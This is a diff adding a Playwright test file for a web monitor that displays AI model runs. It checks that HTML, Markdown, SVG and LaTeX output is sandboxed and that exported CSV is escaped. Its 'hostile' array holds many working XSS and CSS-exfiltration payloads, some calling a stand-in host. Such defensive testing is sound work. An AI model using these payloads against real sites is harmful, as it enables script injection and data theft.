@@ -1,0 +1,180 @@
+import { readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import AxeBuilder from "@axe-core/playwright";
+import type { Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { Monitor } from "./monitor-kit.ts";
+
+let monitor: Monitor;
+let page: Page;
+/** What the page asked for, and from where. */
+const requests: string[] = [];
+const dialogs: string[] = [];
+
+beforeAll(async () => {
+  monitor = await Monitor.start();
+  page = await monitor.open("runs");
+  page.on("request", (request) => requests.push(request.url()));
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+});
+
+afterAll(async () => {
+  await monitor?.[Symbol.asyncDispose]();
+});
+
+interface Shown {
+  readonly said?: string;
+  readonly values?: readonly Readonly<Record<string, unknown>>[];
+}
+
+/** Opens a run in which a model said this, and a program showed that. */
+async function open({ said = "Hello.", values = [] }: Shown): Promise<void> {
+  const time = new Date(0).toISOString();
+  const drafts = [
+    { source: "host", type: "run-start", data: { flow: "chat", session: "s", input: { text: "go" }, profile: "p" } },
+    { source: "gpt", type: "model-start", data: { model: "gpt" } },
+    { source: "gpt", type: "text-delta", data: { text: said } },
+    {
+      source: "gpt",
+      type: "model-end",
+      data: { usage: { inputTokens: 1, outputTokens: 1 }, finishReason: "stop", stopReason: "stop" },
+    },
+    { source: "box", type: "exec-start", data: { language: "python", code: "show()", n: 1 } },
+    ...values.map((data) => ({ source: "box", type: "exec-result", data: { data } })),
+    { source: "box", type: "exec-end", data: { status: "exited", exitCode: 0, wallMs: 1, peakBytes: 1 } },
+    {
+      source: "host",
+      type: "run-end",
+      data: { status: "ok", usage: { inputTokens: 1, outputTokens: 1 }, cost: { amount: 0, currency: "USD" } },
+    },
+  ];
+  const events = drafts.map((draft, index) => ({ ...draft, v: 1, run: "r_1", seq: index + 1, time }));
+  const run = { run: "r_1", flow: "chat", session: "s", input: "go", status: "ok", started: time, lastSeq: 8 };
+  const file = join(monitor.folder, "shown.json");
+  writeFileSync(file, JSON.stringify({ format: "sluicebox-run", version: 1, exported: time, run, events }));
+  await page.goto(`${monitor.address}/monitor/runs`);
+  await page.locator("input[type=file]").first().setInputFiles(file);
+  await page.getByText("From a file, exported").waitFor();
+}
+
+const outside = "http://outside.invalid";
+/** What an attacker tries in a value that is shown, or in what a model says. */
+const hostile: readonly string[] = [
+  "<script>parent.hacked=top.hacked=window.hacked=1;alert(1)</script>",
+  "<img src=x onerror=\"top.hacked=1;alert('image')\">",
+  "<svg onload=top.hacked=1><script>top.hacked=1</script><animate onbegin=top.hacked=1 attributeName=x dur=1s /></svg>",
+  `<a id=lure href="javascript:top.hacked=1" target=_top>press</a>`,
+  `<style>@import url(${outside}/import.css); body{background:url(${outside}/css.png)} @font-face{font-family:x;src:url(${outside}/f.woff2)} td{font-family:x}</style><table><tr><td>x</td></tr></table>`,
+  `<p style="background-image:url(${outside}/style.png)">styled</p>`,
+  `<input value=secret><style>input[value^=s]{background:url(${outside}/leak?s)}</style>`,
+  `<meta http-equiv=refresh content="0;url=${outside}/refresh">`,
+  `<form id=f action="${outside}/form" method=post target=_top><input name=a value=b><button id=send>send</button></form>`,
+  `<iframe src="${outside}/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>`,
+  `<object data="${outside}/object"></object><embed src="${outside}/embed">`,
+  `<link rel=stylesheet href="${outside}/link.css"><link rel=prefetch href="${outside}/prefetch"><link rel=dns-prefetch href="${outside}">`,
+  `<base href="${outside}/"><img src="relative.png"><picture><source srcset="${outside}/set.png"><img></picture>`,
+  `<video src="${outside}/v.mp4" poster="${outside}/poster.png" autoplay></video><audio src="${outside}/a.mp3" autoplay></audio>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="top.hacked=1"></style></mglyph></table></mtext></math>`,
+  '<noscript><p title="</noscript><img src=x onerror=top.hacked=1>"></noscript>',
+  "</style></iframe><script>top.hacked=1</script>",
+  `<div style="position:fixed;inset:0">over the page</div><details open ontoggle=top.hacked=1>x</details>`,
+  `<body onload="top.hacked=1" background="${outside}/body.png"><img src="//outside.invalid/scheme.png">`,
+  `<img src="${"/monitor/api/session"}"><a href="${outside}/ping" ping="${outside}/ping">x</a>`,
+  `<template shadowrootmode=open><img src="${outside}/shadow.png"></template><svg><image href="${outside}/svg.png"/><use href="${outside}/use.svg#x"/></svg>`,
+];
+
+const outgoing = () => requests.filter((url) => url.includes("outside.invalid") || url.includes("/relative.png"));
+
+describe("rich results", () => {
+  it("should run nothing and ask nobody for anything, whatever a program shows as HTML", async () => {
+    requests.length = 0;
+    await open({ values: hostile.map((html) => ({ "text/html": html, "text/plain": "plain" })) });
+    const frames = page.locator("iframe.html-frame");
+    await frames.nth(hostile.length - 1).waitFor();
+    expect(await frames.count()).toBe(hostile.length);
+    for (const frame of await frames.all()) {
+      expect(await frame.getAttribute("sandbox")).toBe("");
+      await frame.scrollIntoViewIfNeeded();
+      await frame.click();
+      for (const press of await frame.contentFrame().locator("a, button, input, summary").all())
+        await press.click({ force: true, timeout: 300 }).catch(() => undefined);
+    }
+    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
+    expect(dialogs).toEqual([]);
+    expect(outgoing()).toEqual([]);
+    expect(requests.filter((url) => url.endsWith("/api/session"))).toHaveLength(1);
+    expect(page.url()).toContain("/monitor/bundle");
+    expect(page.frames().every((frame) => /^(about:srcdoc|http:\/\/127)/.test(frame.url()))).toBe(true);
+  });
+
+  it("should run nothing of drawings, formulas and Markdown", async () => {
+    requests.length = 0;
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="top.hacked=1"><script>top.hacked=1</script><image href="${outside}/i.png"/></svg>`;
+    const tex = `\\href{javascript:top.hacked=1}{x}\\includegraphics{${outside}/t.png}\\htmlData{a=b}{x}`;
+    const markdown = `[press](javascript:top.hacked=1) ![picture](${outside}/m.png) <img src=x onerror=top.hacked=1>`;
+    await open({
+      said: `${markdown}\n\n${hostile.join("\n\n")}`,
+      values: [{ "image/svg+xml": svg }, { "text/latex": tex }, { "text/markdown": markdown }],
+    });
+    await page.locator(".formula math").waitFor();
+    await page.getByText("press", { exact: true }).first().click();
+    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
+    expect(dialogs).toEqual([]);
+    expect(outgoing()).toEqual([]);
+    expect(await page.locator(".transcript").locator("script, [onerror], [onload], [href^='javascript']").count()).toBe(
+      0,
+    );
+  });
+
+  it("should draw Markdown, and code with numbers of lines and a button that copies it", async () => {
+    await open({
+      said: "# Title\n\nSome **bold** and `code`.\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | שלום |\n\n```python\ndef f():\n    return 'x'\n```\n",
+    });
+    await page.getByRole("heading", { name: "Title" }).waitFor();
+    expect(await page.locator(".markdown strong").textContent()).toBe("bold");
+    expect(await page.locator(".markdown ol li").allInnerTexts()).toEqual(["one", "two"]);
+    expect(await page.locator(".markdown td").allInnerTexts()).toEqual(["1", "שלום"]);
+    expect(await page.locator(".markdown .code-line").count()).toBe(2);
+    expect(await page.locator(".markdown .hljs-keyword").first().textContent()).toBe("def");
+    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
+    await page.locator(".markdown").getByRole("button", { name: "Copy the code" }).click();
+    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe("def f():\n    return 'x'");
+    const { violations } = await new AxeBuilder({ page }).withTags(["wcag2a", "wcag2aa"]).analyze();
+    expect(violations.map(({ id, nodes }) => `${id} ${nodes[0]?.html}`)).toEqual([]);
+  });
+
+  it("should draw a DataFrame as a table that sorts and is saved as CSV", async () => {
+    const row = (...cells: string[]) => `<tr><th>${cells[0]}</th><td>${cells.slice(1).join("</td><td>")}</td></tr>`;
+    const html = `<div><style scoped>.dataframe td{}</style><table border="1" class="dataframe"><thead><tr><th></th><th>n</th><th>name</th></tr></thead>
+<tbody>${row("0", "10", "=SUM(A1)")}${row("1", "9", "日本, 語")}${row("2", "NaN", "שלום")}</tbody></table><p>3 rows × 2 columns</p></div>`;
+    await open({ values: [{ "text/html": html, "text/plain": "plain" }] });
+    const numbers = () => page.locator(".data-table tbody td:nth-child(2)").allInnerTexts();
+    expect(await numbers()).toEqual(["10", "9", "NaN"]);
+    await page.getByRole("button", { name: "n", exact: true }).click();
+    expect(await numbers()).toEqual(["9", "10", "NaN"]);
+    await page.keyboard.press("Enter");
+    expect(await numbers()).toEqual(["10", "9", "NaN"]);
+    await page.getByText("3 rows × 2 columns").waitFor();
+    const [download] = await Promise.all([
+      page.waitForEvent("download"),
+      page.getByRole("button", { name: "Save as CSV" }).click(),
+    ]);
+    expect(readFileSync(await download.path(), "utf8")).toBe(
+      ',n,name\r\n0,10,\'=SUM(A1)\r\n1,9,"日本, 語"\r\n2,NaN,שלום\r\n',
+    );
+    const { violations } = await new AxeBuilder({ page }).withTags(["wcag2a", "wcag2aa"]).analyze();
+    expect(violations.map(({ id, nodes }) => `${id} ${nodes[0]?.html}`)).toEqual([]);
+  });
+
+  it("should keep the styles of HTML that a program shows", async () => {
+    await open({
+      values: [{ "text/html": "<style>b{color:rgb(1,2,3)}</style><b>x</b><i style='color:rgb(4,5,6)'>y</i>" }],
+    });
+    const shown = page.locator("iframe.html-frame").contentFrame();
+    const colour = (tag: string) => shown.locator(tag).evaluate((element) => getComputedStyle(element).color);
+    expect([await colour("b"), await colour("i")]).toEqual(["rgb(1, 2, 3)", "rgb(4, 5, 6)"]);
+  });
+});
